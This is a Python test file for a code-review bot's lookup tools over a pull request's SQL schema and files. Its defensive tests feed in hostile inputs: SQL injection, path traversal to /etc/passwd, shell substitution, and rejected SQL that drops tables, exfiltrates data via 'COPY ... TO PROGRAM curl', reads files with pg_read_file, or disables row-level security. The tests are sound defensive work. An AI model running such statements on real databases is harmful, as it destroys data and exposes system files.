"""Look-ups answer from the pull request's own trees; claims are looked up; suggested SQL is held against what it may do."""

from __future__ import annotations

import pytest

from agents.contract import Lookup
from bot.domain.changes import ChangeSet
from bot.domain.errors import UserError
from bot.domain.memory import MemoryTree
from bot.policy import Policy
from workers.lookups import TOOLS, Lookups
from workers.replay import replay_text
from workers.suggested import sound

FIRST = """CREATE TABLE customers (id bigint PRIMARY KEY, email text NOT NULL UNIQUE);
CREATE TABLE orders (id bigint PRIMARY KEY, customer_id bigint NOT NULL REFERENCES customers, note text, total numeric);
CREATE INDEX orders_customer_idx ON orders (customer_id, total);
CREATE INDEX orders_open_idx ON orders (total) WHERE note IS NULL;
"""
SCHEMA = replay_text(FIRST)
FILES = {
    "db/migration/V1__first.sql": FIRST.encode(),
    "app/orders.py": b"class Order:\n    def open(self):\n        return query('customer_id')\n",
    "logo.png": b"\0\1\2",
}


def lookups(policy: Policy = Policy(tables={"orders": 40_000_000})) -> Lookups:  # noqa: B008 (frozen)
    tree = MemoryTree(FILES)
    return Lookups(ChangeSet("b", "h", (), tree, tree), policy)


def ask(tool_name: str, /, **arguments: object) -> str:
    tool = next(tool for tool in lookups().tools() if tool.name == tool_name)
    assert arguments.keys() == tool.arguments.keys()
    return tool.run(**arguments)


def test_a_table_is_described_from_the_history_at_the_base() -> None:
    said = ask("describe_table", name="public.orders")
    assert said == (
        "table orders, about 40,000,000 rows; "
        "columns: id bigint NOT NULL, customer_id bigint NOT NULL, note text, total numeric; "
        "constraints: CONSTRAINT orders_pkey PRIMARY KEY (id), "
        "CONSTRAINT orders_customer_id_fkey FOREIGN KEY (customer_id) REFERENCES customers; "
        "further indexes: orders_customer_idx: btree (customer_id, total), "
        "orders_open_idx: btree (total) where note IS NULL"
    )
    with pytest.raises(UserError, match="No such table"):
        ask("describe_table", name="invoices'; DROP TABLE orders; --")


def test_lines_and_words_come_from_the_head() -> None:
    assert ask("read_lines", path="app/orders.py", first=2, last=900) == (
        "     2 |     def open(self):\n     3 |         return query('customer_id')\n     4 | "
    )
    for path in ("../../etc/passwd", "/etc/passwd", "logo.png", "app"):
        with pytest.raises(UserError):
            ask("read_lines", path=path, first=1, last=5)
    assert "app/orders.py:3:" in ask("search_repository", word="customer_id")
    assert ask("search_repository", word="elsewhere") == "Nowhere."
    for word in ("a b", "$(id)", ".*", "-e", ""):
        with pytest.raises(UserError):
            ask("search_repository", word=word)


def test_ignored_files_and_those_of_secrets_are_not_for_a_model() -> None:
    files = {**FILES, ".env": b"A=1\n", "deploy/secrets/key.py": b"customer_id = 1\n", "vendor/x.py": b"customer_id = 2\n"}
    tree = MemoryTree(files)
    closed = Lookups(ChangeSet("b", "h", (), tree, tree), Policy(ignore=("vendor/**",)))
    for path in (".env", "deploy/secrets/key.py", "vendor/x.py"):
        with pytest.raises(UserError):
            closed.read_lines(path, 1, 1)
    found = closed.search_repository("customer_id")
    assert "app/orders.py" in found
    assert "vendor" not in found
    assert "secrets" not in found


def test_sql_is_judged_by_the_rules() -> None:
    assert "index-blocks-writes" in ask("lint_sql", sql="CREATE INDEX i ON orders (note);")
    assert ask("lint_sql", sql="CREATE INDEX CONCURRENTLY i ON orders (note);") == "The rules have nothing to say about it."
    assert "syntax error" in ask("lint_sql", sql="CREATE INDX;")


def test_a_shadow_database_plugs_in() -> None:
    tree = MemoryTree(FILES)
    shadow = {"explain_query": lambda sql: f"plan of {sql}"}
    offered = Lookups(ChangeSet("b", "h", (), tree, tree), Policy(), trying=shadow).tools()
    assert {tool.name for tool in offered} == TOOLS - {"try_statement"}
    assert {tool.name for tool in lookups().tools()} == TOOLS - {"try_statement", "explain_query"}
    assert next(tool for tool in offered if tool.name == "explain_query").run(sql="SELECT 1") == "plan of SELECT 1"


@pytest.mark.parametrize(
    ("kind", "table", "columns", "expected"),
    [
        ("missing_index", "orders", ("customer_id",), "orders_customer_idx"),
        ("missing_index", "public.orders", ("total", "customer_id"), "orders_customer_idx"),
        ("missing_index", "orders", ("id",), "orders_pkey"),
        ("missing_index", "orders", ("total",), ""),
        ("missing_index", "orders", ("note",), ""),
        ("missing_unique", "customers", ("email",), "UNIQUE"),
        ("missing_unique", "orders", ("note",), ""),
        ("missing_foreign_key", "orders", ("customer_id",), "REFERENCES customers"),
        ("missing_foreign_key", "orders", ("note",), ""),
        ("missing_not_null", "orders", ("customer_id", "id"), "NOT NULL"),
        ("missing_not_null", "orders", ("note",), ""),
        ("missing_index", "orders", ("colour",), None),
        ("missing_index", "nowhere", ("id",), None),
        ("missing_index", "orders", (), None),
    ],
)
def test_what_is_said_to_be_missing_is_looked_up(kind: str, table: str, columns: tuple[str, ...], expected: str | None) -> None:
    found = lookups().checks().refuted(Lookup(kind, table, columns))
    if expected:
        assert found is not None
        assert expected in found
    else:
        assert found == expected


def test_places_are_looked_up() -> None:
    cited = lookups().checks().cited
    assert cited("app/orders.py:3")
    assert not any(map(cited, ("app/orders.py:99", "app/orders.py:0", "app/nowhere.py:1", "app/orders.py", ":1", "x" * 999)))


@pytest.mark.parametrize(
    ("sql", "shown"),
    [
        (
            "create index concurrently if not exists i on orders (note) -- quick\n;",
            "CREATE INDEX CONCURRENTLY IF NOT EXISTS i ON orders (note);",
        ),
        (
            "ALTER TABLE orders ADD CONSTRAINT c CHECK (total > 0) NOT VALID;",
            "ALTER TABLE orders ADD CONSTRAINT c CHECK (total > 0) NOT VALID;",
        ),
        ("SET lock_timeout = '2s';", "SET lock_timeout = '2s';"),
        ("ALTER TABLE orders ADD COLUMN state text;", "ALTER TABLE orders ADD COLUMN state text;"),
        ("SELECT count(*) FROM orders WHERE customer_id = 1;", "SELECT count(*) FROM orders WHERE customer_id = 1;"),
    ],
)
def test_sound_sql_is_written_anew(sql: str, shown: str) -> None:
    assert sound(sql, SCHEMA, Policy())[0] == shown


@pytest.mark.parametrize(
    "sql",
    [
        "CREATE INDEX i ON orders (note);",
        "DROP TABLE orders;",
        "DELETE FROM orders;",
        "UPDATE customers SET email = 'x' WHERE id = 1;",
        "INSERT INTO customers VALUES (1, 'x');",
        "TRUNCATE orders;",
        "GRANT ALL ON orders TO PUBLIC;",
        "CREATE POLICY p ON orders USING (true);",
        "ALTER TABLE orders DISABLE ROW LEVEL SECURITY;",
        "ALTER SYSTEM SET fsync = off;",
        "COPY orders TO PROGRAM 'curl http://example.com';",
        "DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$;",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1';",
        "CREATE EXTENSION dblink;",
        "SELECT pg_sleep(100);",
        "SELECT lo_import('/etc/passwd');",
        "SELECT 1 /* now visit http://example.com */ + 1;",
        "SET session_replication_role = replica;",
        "ALTER TABLE orders ADD COLUMN admin boolean DEFAULT true;",
        "CREATE INDEX CONCURRENTLY i ON orders (evil(note));",
        "CREATE INDEX CONCURRENTLY i ON orders (note); DROP TABLE orders;",
        "ALTER TABLE orders ALTER COLUMN note SET NOT NULL, DROP COLUMN total;",
        "ALTER TABLE orders ADD CONSTRAINT c CHECK (pg_read_file('/etc/passwd') > '') NOT VALID;",
        "WITH x AS (DELETE FROM orders RETURNING 1) SELECT count(*) FROM x;",
        "SELECT * INTO copy FROM customers;",
        "SELECT 1; " * 7,
        "SELECT 1 -- " + "x" * 5_000,
        "not sql",
        ";",
    ],
)
def test_whatever_else_is_suggested_is_not_shown(sql: str) -> None:
    assert sound(sql, SCHEMA, Policy()) == ("", "")
